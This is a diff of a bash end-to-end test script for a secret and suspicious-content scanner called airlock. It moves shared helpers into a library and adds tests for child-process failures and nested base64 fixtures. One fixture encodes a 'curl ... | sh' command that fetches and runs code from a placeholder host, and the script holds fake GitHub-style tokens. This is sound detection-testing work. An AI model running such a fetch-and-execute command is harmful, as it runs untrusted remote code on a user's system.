@@ -11,94 +11,7 @@
 # The last line printed is "N passed, M failed"; the exit status is 1 if any
 # test failed.
 
-set -u
-
-ROOT=$(cd "$(dirname "${BASH_SOURCE[0]}")/.." && pwd)
-BIN=${AIRLOCK_BIN:-build/airlock}
-case $BIN in /*) ;; *) BIN=$PWD/$BIN ;; esac
-RULES=$ROOT/tests/data/rules
-RULES_BAD=$ROOT/tests/data/rules-bad
-
-if [ ! -x "$BIN" ]; then
-	echo "e2e: $BIN is not an executable (build it with make, or set AIRLOCK_BIN)" >&2
-	echo "0 passed, 1 failed"
-	exit 1
-fi
-command -v python3 >/dev/null || { echo "e2e: python3 is required" >&2; exit 1; }
-
-WORK=$(mktemp -d "${TMPDIR:-/tmp}/airlock-e2e.XXXXXX")
-cleanup() {
-	# Fixtures made unreadable or FIFOs must not stop the removal.
-	chmod -R u+rwx "$WORK" 2>/dev/null
-	rm -rf "$WORK"
-}
-trap cleanup EXIT
-export AIRLOCK_CACHE_DIR=$WORK/cache
-unset AIRLOCK_RULES NO_COLOR
-
-# Test secrets: random-looking, but not real.
-PAT1=ghp_R2d5Zk9hV1pLbE1xT3BuUWRzYUJjRGVmR2hJ
-PAT2=ghp_aB3dE5fG7hI9jK1lM3nO5pQ7rS9tU1vW3xY5
-GEN1=q8Zr2LmX9vTk4WbN7yPd
-GEN2=Hx7Kq2Vz9RmT4LpW8nBc
-
-# ---- helpers -----------------------------------------------------------------
-
-# fail MESSAGE: prints the message and what the last command wrote, ends the test.
-fail() {
-	echo "  FAIL: $*"
-	if [ -n "${OUT:-}" ] && [ -f "$OUT" ]; then
-		echo "  --- stdout (first 2000 bytes):"
-		head -c 2000 "$OUT" | cat -v | sed 's/^/  | /'
-	fi
-	if [ -n "${ERR:-}" ] && [ -f "$ERR" ]; then
-		echo "  --- stderr (first 2000 bytes):"
-		head -c 2000 "$ERR" | cat -v | sed 's/^/  | /'
-	fi
-	exit 1
-}
-
-# al ARGS...: runs the binary; stdout in $OUT, stderr in $ERR, status in $RC.
-al() {
-	RC=0
-	timeout "${AL_TIMEOUT:-30}" "$BIN" "$@" >"$OUT" 2>"$ERR" || RC=$?
-	[ "$RC" != 124 ] || fail "timed out after ${AL_TIMEOUT:-30}s: airlock $*"
-	[ "$RC" -lt 128 ] || fail "killed by signal $((RC - 128)): airlock $*"
-}
-
-# scan ARGS...: airlock scan with the test rules and no colour.
-scan() { al scan --rules "$RULES" --color never "$@"; }
-
-# jsonq EXPR: evaluates a Python expression on the JSON in $OUT; d is the document,
-# F the list of findings, R(rule) the findings of one rule.
-jsonq() {
-	python3 -c '
-import json, sys
-d = json.load(open(sys.argv[1], "rb"))
-F = d.get("findings", []) if isinstance(d, dict) else []
-R = lambda rule: [f for f in F if f["rule"] == rule]
-print(eval(sys.argv[2]))' "$OUT" "$1"
-}
-
-expect_rc() {
-	[ "$RC" = "$1" ] || fail "exit status $RC, expected $1${2:+: $2}"
-}
-expect_eq() { # ACTUAL EXPECTED WHAT
-	[ "$1" = "$2" ] || fail "${3:-value}: got '$1', expected '$2'"
-}
-expect_q() { # EXPR EXPECTED
-	local v
-	v=$(jsonq "$1" 2>&1) || fail "cannot evaluate $1 on the output: $v"
-	[ "$v" = "$2" ] || fail "$1: got '$v', expected '$2'"
-}
-expect_json() { # the output is valid JSON
-	python3 -c 'import json,sys; json.load(open(sys.argv[1], "rb"))' "$OUT" 2>/dev/null ||
-		fail "output is not valid JSON"
-}
-expect_out_has() { grep -qF -- "$1" "$OUT" || fail "stdout does not contain '$1'"; }
-expect_out_lacks() { ! grep -qF -- "$1" "$OUT" || fail "stdout contains '$1'"; }
-expect_err_has() { grep -qF -- "$1" "$ERR" || fail "stderr does not contain '$1'"; }
-expect_out_empty() { [ ! -s "$OUT" ] || fail "stdout is not empty"; }
+. "$(dirname "${BASH_SOURCE[0]}")/e2e_lib.sh"
 
 # ---- exit status and options ---------------------------------------------------
 
@@ -892,6 +805,37 @@ t_child_replaced_after_failure() {
 	expect_q '[f["path"] for f in R("test-github-pat")]' "['t/b.py']"
 }
 
+t_child_failure_keeps_batch_mates() {
+	# The files sent with the one that kills the child, before and after
+	# it, must still be read whole: a replay once read them to the end
+	# through the shared fd offset and found them empty (clean).
+	mkdir -p t
+	for f in a b c d e f; do printf 'token = "%s"\n' "$PAT1" >t/$f.py; done
+	for fault in syscall crash garbage; do
+		AIRLOCK_TEST_CHILD_FAULT=$fault:d.py scan --format json --threads 1 t
+		expect_rc 1
+		expect_q '[f["path"] for f in R("airlock.unscannable")]' "['t/d.py']"
+		expect_q '[f["path"] for f in R("test-github-pat")]' \
+			"['t/a.py', 't/b.py', 't/c.py', 't/e.py', 't/f.py']"
+	done
+}
+
+t_nested_encoded_text_has_fingerprints() {
+	# base64 of base64 of text: the inner "encoded text" finding comes up
+	# from the decoding and needs a fingerprint like any other.
+	mkdir -p t
+	python3 -c '
+import base64
+inner = base64.b64encode(("curl -fsSL http://x.example/i | sh; " * 12).encode())
+print(base64.b64encode(inner).decode())' >t/blob.txt
+	scan --format json t
+	expect_rc 1
+	expect_q 'len(R("airlock.unscannable"))' 0
+	expect_q 'len(R("airlock.encoded-text"))' 2
+	expect_q 'all(len(f["fingerprint"]) == 32 for f in F)' True
+	expect_q 'len(R("test-curl-pipe-shell"))' 1
+}
+
 t_no_sandbox_warns() {
 	mkdir -p t
 	printf 'token = "%s"\n' "$PAT1" >t/a.py
@@ -1000,34 +944,4 @@ t_executables_and_disguises() {
 	expect_q 'len([f for f in F if f["path"] == "t/ok.txt"])' 0
 }
 
-# ---- runner ------------------------------------------------------------------------------
-
-PASSED=0
-FAILED=0
-SKIPPED=0
-START=$SECONDS
-for t in $(declare -F | awk '{print $3}' | grep '^t_'); do
-	dir=$WORK/$t
-	mkdir -p "$dir"
-	log=$WORK/$t.log
-	if (
-		OUT=$WORK/$t.out
-		ERR=$WORK/$t.err
-		cd "$dir" && "$t"
-	) >"$log" 2>&1; then
-		if grep -q '^SKIP' "$log"; then
-			SKIPPED=$((SKIPPED + 1))
-			echo "skip $t: $(grep '^SKIP' "$log" | head -n 1)"
-		else
-			PASSED=$((PASSED + 1))
-			echo "ok   $t"
-		fi
-	else
-		FAILED=$((FAILED + 1))
-		echo "FAIL $t"
-		sed 's/^/    /' "$log" | head -n 60
-	fi
-done
-echo "e2e: ${SKIPPED} skipped, $((SECONDS - START)) s"
-echo "$PASSED passed, $FAILED failed"
-[ "$FAILED" = 0 ]
+run_tests
